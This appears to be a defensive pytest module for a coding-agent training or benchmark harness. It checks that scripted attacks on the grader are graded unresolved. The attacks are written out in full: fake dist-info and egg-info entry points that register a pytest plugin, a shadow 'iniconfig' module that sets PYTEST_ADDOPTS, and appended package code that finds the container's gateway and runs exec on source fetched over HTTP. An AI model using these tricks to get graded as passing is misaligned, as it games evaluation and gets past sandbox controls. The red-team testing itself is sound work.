"""Red team of the source/test split and the sandbox's network (issue 30, parts 4 and 6).

Scripted agents (tests/fixtures/redteam.py) that fix nothing and try to be graded resolved
through the real episode (``run_episode``: the in-sandbox evaluation, then the integrity check
in a pristine sandbox), with what the split let through before it became an allowlist:

- a pytest plugin registered by a new ``*.dist-info/entry_points.txt`` (or ``*.egg-info``) at
  the repository's root, which ``python -m pytest`` finds on ``sys.path``;
- a new top-level module named like one pytest imports at start-up (``iniconfig``: neither a
  runner module of the old list nor the standard library) that loads the real one and sets
  ``PYTEST_ADDOPTS`` from inside the process;
- package source that fetches the fix over the network while the tests run (a local HTTP
  server stands for the upstream repository).

The plugins spare the canary tests (the payload's ``SPARING_HOOK``), so each attack is stopped
by the layer it aims at, which its test checks (``Attack.stripped``) besides the verdict. Every
attack must grade unresolved with reward 0 on each backend; the gold patch, through the same
path, must still resolve.
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Callable, Iterator

import pytest

from crl_worker.agent.pristine import PristineSpares
from crl_worker.agent.trajectory import Trajectory
from crl_worker.sandbox.base import Sandbox
from crl_worker.tasks.model import Task

from .fixtures.redteam import (
    BACKENDS,
    PYTEST,
    SPARING_HOOK,
    Attack,
    Backend,
    assert_blocked,
    evaluation,
    make_backend,
    run_attacks,
    suite,
    write,
)

#: Loads the real ``iniconfig`` from behind the repository's shadow of it, after asking pytest
#: (through its environment, read later in the same process) to load the package's plugin.
SHADOW_INICONFIG = """\
import os as _os, sys as _sys
_os.environ["PYTEST_ADDOPTS"] = (_os.environ.get("PYTEST_ADDOPTS", "") + " -p intervals._report").strip()
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
del _sys.modules[__name__]
import iniconfig as _real
_sys.path[:] = _saved
_sys.modules[__name__] = _real
"""

#: Appended to the package's module: the fix comes from the network while the tests import it.
FETCH = """\
# crl-fetch
def _crl_hosts():
    yield "127.0.0.1"
    try:
        for _line in open("/proc/net/route").read().splitlines()[1:]:
            _f = _line.split()
            if _f[1] == "00000000":
                _g = int(_f[2], 16)
                yield ".".join(str((_g >> _s) & 255) for _s in (0, 8, 16, 24))
    except Exception:
        pass
    yield "host.docker.internal"
for _host in _crl_hosts():
    try:
        import json as _json, urllib.request as _url
        _fix = _json.loads(_url.urlopen("http://%s:{port}/fix" % _host, timeout=3).read())
        _src = open(__file__).read().split("# crl-fetch")[0]
        exec(compile(_src.replace(_fix["old"], _fix["new"]), __file__, "exec"), globals())
        break
    except Exception:
        pass
"""


def _metadata(folder: str, entry_points: str) -> tuple[str, ...]:
    return (
        write("intervals/_report.py", SPARING_HOOK),
        write(f"{folder}/METADATA", "Metadata-Version: 2.1\nName: crl-report\nVersion: 1.0\n"),
        write(f"{folder}/{entry_points}", "[pytest11]\ncrl_report = intervals._report\n"),
    )


def attacks(port: int) -> tuple[Attack, ...]:
    """The attacks; ``port`` is the local HTTP server's that serves the fix."""
    return (
        Attack(
            "dist-info-pytest11",
            PYTEST,
            _metadata("crl_report-1.0.dist-info", "entry_points.txt"),
            "a pytest11 plugin registered by a new *.dist-info/entry_points.txt at the root",
            stripped="crl_report-1.0.dist-info/entry_points.txt",
        ),
        Attack(
            "egg-info-pytest11",
            PYTEST,
            (
                *_metadata("crl_report.egg-info", "entry_points.txt"),
                "mv crl_report.egg-info/METADATA crl_report.egg-info/PKG-INFO",
            ),
            "the same plugin through a new *.egg-info",
            stripped="crl_report.egg-info/entry_points.txt",
        ),
        Attack(
            "shadow-iniconfig",
            PYTEST,
            (
                write("intervals/_report.py", SPARING_HOOK),
                write("iniconfig/__init__.py", SHADOW_INICONFIG),
            ),
            "a top-level iniconfig package (pytest imports it at start-up) that loads the real "
            "one and sets PYTEST_ADDOPTS from inside the process",
            stripped="iniconfig/__init__.py",
        ),
        Attack(
            "network-fetch-of-the-fix",
            PYTEST,
            (
                f"cat >> intervals/ops.py <<'CRL_ATTACK_EOF'\n{FETCH.format(port=port)}CRL_ATTACK_EOF",
            ),
            "package source that fetches the fix from a server on the host (its loopback, the "
            "container's gateway, host.docker.internal) while the tests import it",
        ),
    )


@pytest.fixture(scope="module")
def fix_server() -> Iterator[int]:
    """A local HTTP server that serves the fix of the pytest instance (the line its gold patch
    changes) as ``/fix``; yields its port. It counts nothing: a sandbox that reaches it is
    graded resolved, and the test of that attack fails."""
    task = suite()[PYTEST]
    old = next(line[1:] for line in task.patch.splitlines() if line.startswith("-   "))
    new = next(line[1:] for line in task.patch.splitlines() if line.startswith("+   "))
    body = json.dumps({"old": old, "new": new}).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            return None

    # Every interface: a container on a bridge would reach it through its gateway.
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module", params=BACKENDS)
def backend(request: pytest.FixtureRequest) -> Backend:
    """One backend, with the attacked instance ready for it."""
    return make_backend(request, (PYTEST,))


#: The spares of each backend's run (the episodes here confirm in them, as a benchmark's do).
SPARES: dict[str, PristineSpares] = {}


@pytest.fixture(scope="module")
def outcomes(backend: Backend, fix_server: int) -> dict[str, Trajectory]:
    """Every attack, and the gold patch, run once on this backend, confirming in spares."""

    def spares(factory: Callable[[Task], Sandbox]) -> PristineSpares:
        SPARES[backend.name] = PristineSpares(factory)
        return SPARES[backend.name]

    return run_attacks(backend, attacks(fix_server), (PYTEST,), spares)


@pytest.mark.parametrize("name", [a.name for a in attacks(0)])
def test_attack_is_graded_unresolved(
    name: str, fix_server: int, outcomes: dict[str, Trajectory]
) -> None:
    attack = next(a for a in attacks(fix_server) if a.name == name)
    assert_blocked(attack, outcomes[name])


def test_gold_still_resolves(backend: Backend, outcomes: dict[str, Trajectory]) -> None:
    result = evaluation(outcomes[f"gold:{PYTEST}"])
    assert result.resolved and result.confirmed, result.log[-3000:]
    # Every check here took a spare that started with its episode, or waited for a start.
    spares = SPARES[backend.name]
    assert spares.hits >= 1 and spares.hits + spares.misses >= 4, (spares.hits, spares.misses)


def test_the_fix_server_serves_the_fix(fix_server: int) -> None:
    """The network attack is real: from this process (outside any sandbox) the fix is there."""
    import urllib.request

    with urllib.request.urlopen(f"http://127.0.0.1:{fix_server}/fix", timeout=5) as answer:
        fix = json.loads(answer.read())
    task: Task = suite()[PYTEST]
    assert fix["new"] in task.patch and fix["old"] != fix["new"]
    with socket.create_connection(("127.0.0.1", fix_server), timeout=5):
        pass
